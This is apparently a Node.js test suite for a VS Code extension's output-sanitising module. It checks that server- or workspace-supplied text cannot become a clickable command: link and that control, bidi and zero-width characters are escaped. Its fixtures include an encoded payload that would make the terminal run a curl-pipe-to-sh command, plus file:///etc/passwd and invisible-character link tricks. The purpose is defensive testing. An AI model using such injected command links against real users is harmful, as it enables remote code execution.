// say.ts, the one way to what a person is shown: text from outside (a server's retry reason, a
// workspace's value) never becomes a link VS Code would follow, and nothing in it is unseen.

"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const { state, vscode, extension } = require("./vscode");

const say = extension("say");

// VS Code's own (base/common/linkedText.ts, code-server 4.100.3): what it makes a link of in a
// notification's message, a progress notification's included.
const LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text) => [...text.matchAll(LINK_REGEX)];

// What a hostile server answered in attack F2 (a 503's body), as the CLI's retry line carries it.
const ATTACK = "Server busy. [Retry now](command:workbench.action.terminal.sendSequence?" +
  "%7B%22text%22%3A%22curl%20-s%20http%3A%2F%2F127.0.0.1%3A9%2Fx%7Csh%5Cn%22%7D)";
const HOSTILE = [
  ATTACK,
  `retrying: HTTP 503 from http://127.0.0.1:5000/api/v1/lineage: ${ATTACK} (attempt 2)`,
  "nothing listens at http://127.0.0.1:9/api/v1/lineage/[Retry](command:workbench.action.tasks.build)",
  "[Open](https://example.invalid/x) [File](file:///etc/passwd) [A](COMMAND:x) [B](Command:y)",
  "[Nested [x]](command:a) [x]\u200b(command:b) [x]\u2060(command:c) [x]\u202e(command:d)",
  "run command:workbench.action.terminal.sendSequence?%7B%7D now",
];

test("the attack's retry line is no link, and reads as it did", () => {
  const line = `retrying: ${ATTACK} (attempt 2)`;
  assert.equal(links(line).length, 1);  // the premise: VS Code would make a link of it
  const made = say.plain(line);
  assert.deepEqual(links(made), []);
  assert.equal(made.replace(/\u200b/g, ""), line);
});

test("no hostile text becomes a link, nor keeps a bare command: URI", () => {
  for (const text of HOSTILE) {
    const made = say.plain(text);
    assert.deepEqual(links(made), [], made);
    assert.doesNotMatch(made, /command:/i, made);
  }
});

test("control, bidi and zero-width characters are shown escaped", () => {
  const made = say.plain("a\x1b]0;T\x07b\u202ec\u2066d\u200be\u2028f\rg\x9bh\u{e0041}i\ufeffj");
  assert.equal(made, "a\\x1b]0;T\\x07b\\u202ec\\u2066d\\u200be\\u2028f\\x0dg\\x9bh\\u{e0041}i\\ufeffj");
  assert.equal(say.plain("two\nlines\tand a tab"), "two\nlines\tand a tab");
});

test("plain text stays as it is, and plain of plain is plain", () => {
  assert.equal(say.plain("exported to http://localhost:5000: 3 of 3 runs sent"),
    "exported to http://localhost:5000: 3 of 3 runs sent");
  for (const text of HOSTILE) {
    assert.equal(say.plain(say.plain(text)), say.plain(text));
    // The only unseen character left is the one that breaks a link.
    assert.doesNotMatch(say.plain(text).replace(/\](\u200b)\(|command(\u200b):/gi, ""), /\p{Cf}/u);
  }
});

test("every surface says it plain", async () => {
  state.shown.length = 0;
  const reported = [];
  say.progress({ report: (r) => reported.push(r) }, ATTACK, 5);
  say.progress({ report: (r) => reported.push(r) }, ATTACK);
  assert.deepEqual(reported, [{ message: say.plain(ATTACK), increment: 5 },
    { message: say.plain(ATTACK) }]);

  const item = say.treeItem(ATTACK, vscode.TreeItemCollapsibleState.None,
    { description: ATTACK, tooltip: ATTACK, accessible: ATTACK });
  for (const text of [item.label, item.description, item.tooltip, item.accessibilityInformation.label]) {
    assert.equal(text, say.plain(ATTACK));
  }

  const view = { message: "x", description: "y" };
  say.viewSays(view, { message: ATTACK });
  assert.deepEqual(view, { message: say.plain(ATTACK), description: "y" });
  say.viewSays(view, { message: undefined, description: ATTACK });
  assert.deepEqual(view, { message: undefined, description: say.plain(ATTACK) });

  const bar = {};
  say.statusBar(bar, `$(debug-disconnect) OpenLineage: ${ATTACK} $(zap)`, `Auto-export: ${ATTACK}`);
  assert.ok(bar.text.startsWith("$(debug-disconnect) OpenLineage: "));
  assert.deepEqual(links(bar.text), []);
  assert.doesNotMatch(bar.text.slice(1), /\$\(/);  // only our own icon is drawn
  assert.equal(bar.tooltip, say.plain(`Auto-export: ${ATTACK}`));

  assert.equal(say.diagnostic(new vscode.Range(0, 0, 0, 1), ATTACK, 1).message, say.plain(ATTACK));

  await say.input({ title: ATTACK, prompt: ATTACK, placeHolder: ATTACK, password: true,
    validateInput: () => ATTACK });
  const [, options] = state.shown.find(([kind]) => kind === "input");
  for (const text of [options.title, options.prompt, options.placeHolder, await options.validateInput("k")]) {
    assert.equal(text, say.plain(ATTACK));
  }
  assert.equal(options.password, true);

  say.webviewPanel("t", ATTACK, 1, {});
  await say.withProgress(ATTACK, true, (progress) => { say.progress(progress, ATTACK); return Promise.resolve(); });
  await say.info(ATTACK);
  await say.warn(ATTACK, "Open Report");
  await say.error(ATTACK);
  await say.ask(ATTACK, "Send it there");
  await say.askInfo(ATTACK);
  const texts = state.shown.flatMap(([kind, first, second]) =>
    kind === "webview" ? [second] : kind === "withProgress" ? [first.title] :
      kind === "report" ? [first.message] : kind === "input" ? [] : [first]);
  assert.equal(texts.length, 8);
  for (const text of texts) {
    assert.equal(text, say.plain(ATTACK));
  }
});
